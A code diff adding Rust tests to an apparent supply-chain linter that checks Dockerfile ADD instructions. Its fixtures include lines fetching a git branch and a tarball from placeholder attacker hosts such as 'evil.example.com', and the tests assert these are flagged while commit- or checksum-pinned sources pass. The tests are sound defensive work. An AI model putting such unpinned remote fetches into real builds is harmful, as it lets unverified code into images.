@@ -187,3 +187,45 @@ fn f15_pinned_or_imageless_inline_patches_stay_silent() {
     assert_eq!(run.code, 0, "{}", run.stdout);
     assert!(run.rule_names().is_empty(), "{}", run.stdout);
 }
+
+fn dockerfile(adds: &str) -> String {
+    format!("FROM alpine@{D}\n{adds}RUN echo hi\n")
+}
+
+#[test]
+fn f16_dockerfile_add_of_a_branch_or_an_unchecked_url_is_judged() {
+    let base = dockerfile("");
+    let messages = blocked(
+        &[("app/Dockerfile", &base)],
+        &[(
+            "app/Dockerfile",
+            &dockerfile(
+                "ADD https://github.com/evil/tools.git#main /opt/tools\nADD https://evil.example.com/agent.tar.gz /opt/\n",
+            ),
+        )],
+    );
+    assert!(
+        messages.iter().any(|m| m.contains("evil/tools.git")),
+        "{messages:?}"
+    );
+    assert!(
+        messages.iter().any(|m| m.contains("agent.tar.gz")),
+        "{messages:?}"
+    );
+}
+
+#[test]
+fn f16_dockerfile_add_pinned_by_commit_or_checksum_stays_silent() {
+    let base = dockerfile("");
+    let hex = &D[7..];
+    silent(
+        &[("app/Dockerfile", &base)],
+        &[(
+            "app/Dockerfile",
+            &dockerfile(&format!(
+                "ADD https://github.com/acme/tools.git#{} /opt/tools\nADD --checksum=sha256:{hex} https://example.com/agent.tar.gz /opt/\nADD local.tgz /opt/\n",
+                crate::util::SHA
+            )),
+        )],
+    );
+}
